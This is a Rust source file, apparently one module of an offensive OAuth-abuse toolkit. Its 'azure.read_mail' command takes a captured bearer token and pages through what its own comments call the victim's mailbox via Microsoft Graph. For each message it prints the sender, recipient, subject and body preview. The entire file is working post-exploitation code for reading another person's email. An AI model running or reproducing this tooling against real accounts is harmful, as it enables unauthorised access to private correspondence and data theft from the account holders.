use async_trait::async_trait;
use serde::Deserialize;

use crate::config::EVILOAUTH_GRAPH_URL;
use crate::module::errors::ModuleError;
use crate::module::types::Module;
use crate::utils::get_client;

const DEFAULT_MESSAGE_COUNT: i64 = 10;
const SEPARATOR: &str = "=========================================";

#[derive(Debug, Deserialize)]
struct MessagePage {
    #[serde(default)]
    value: Vec<Message>,
    #[serde(rename = "@odata.nextLink")]
    next_link: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
struct Message {
    #[serde(default)]
    subject: Option<String>,
    #[serde(default)]
    from: Option<Recipient>,
    #[serde(default)]
    to_recipients: Vec<Recipient>,
    #[serde(default)]
    body_preview: Option<String>,
}

#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
struct Recipient {
    email_address: EmailAddress,
}

#[derive(Debug, Deserialize)]
struct EmailAddress {
    #[serde(default)]
    name: Option<String>,
    #[serde(default)]
    address: Option<String>,
}

/// `azure.read_mail`: page through the victim's mailbox via Microsoft Graph.
pub struct ReadMail {
    graph_url: String,
}

impl ReadMail {
    pub fn new() -> Self {
        Self::with_graph_url(EVILOAUTH_GRAPH_URL.as_str())
    }

    pub fn with_graph_url(graph_url: impl Into<String>) -> Self {
        Self {
            graph_url: graph_url.into().trim_end_matches('/').to_string(),
        }
    }

    async fn fetch_messages(&self, raw_token: &str, count: i64) -> Result<Vec<Message>, ModuleError> {
        let client = get_client()?;
        let mut next = Some(format!("{}/me/messages", self.graph_url));
        let mut messages = Vec::new();

        while let Some(url) = next.take() {
            tracing::debug!("Fetching mail page: {}", url);
            let response = client
                .get(&url)
                .bearer_auth(raw_token)
                .send()
                .await
                .map_err(|e| ModuleError::Http(e.to_string()))?;

            if !response.status().is_success() {
                return Err(ModuleError::Status(response.status().to_string()));
            }

            let page: MessagePage = response
                .json()
                .await
                .map_err(|e| ModuleError::Malformed(e.to_string()))?;
            messages.extend(page.value);

            let reached = count != -1 && messages.len() as i64 >= count;
            if !reached {
                next = page.next_link;
            }
        }

        if count != -1 {
            messages.truncate(count as usize);
        }
        Ok(messages)
    }
}

impl Default for ReadMail {
    fn default() -> Self {
        Self::new()
    }
}

fn parse_count(args: &[String]) -> Result<i64, ModuleError> {
    let Some(arg) = args.first() else {
        return Ok(DEFAULT_MESSAGE_COUNT);
    };
    match arg.parse::<i64>() {
        Ok(-1) => Ok(-1),
        Ok(n) if n > 0 => Ok(n),
        _ => Err(ModuleError::InvalidArgument(format!(
            "message count must be a positive number or -1, got '{arg}'"
        ))),
    }
}

fn render(messages: &[Message]) -> String {
    let mut out = format!("Fetched {} message(s)", messages.len());
    for message in messages {
        let (from_name, from_address) = message
            .from
            .as_ref()
            .map(|r| {
                (
                    r.email_address.name.as_deref().unwrap_or(""),
                    r.email_address.address.as_deref().unwrap_or(""),
                )
            })
            .unwrap_or(("", ""));
        let to = message
            .to_recipients
            .first()
            .and_then(|r| r.email_address.address.as_deref())
            .unwrap_or("");

        out.push_str(&format!(
            "\n{SEPARATOR}\nFrom: {from_name} <{from_address}>\nTo: {to}\nSubject: {}\nBody: {}\n{SEPARATOR}",
            message.subject.as_deref().unwrap_or(""),
            message.body_preview.as_deref().unwrap_or("").trim(),
        ));
    }
    out
}

#[async_trait]
impl Module for ReadMail {
    fn module_name(&self) -> &'static str {
        "azure"
    }

    fn sub_module_name(&self) -> &'static str {
        "read_mail"
    }

    fn description(&self) -> &'static str {
        "Read the target's mailbox through Microsoft Graph. Args: [count] (default 10, -1 for all)"
    }

    async fn load(&self) -> Result<(), ModuleError> {
        tracing::debug!(graph = %self.graph_url, "read_mail ready");
        Ok(())
    }

    async fn run(&self, raw_token: &str, args: &[String]) -> Result<String, ModuleError> {
        let count = parse_count(args)?;
        let messages = self.fetch_messages(raw_token, count).await?;
        tracing::info!(count = messages.len(), "read_mail fetched messages");
        Ok(render(&messages))
    }
}
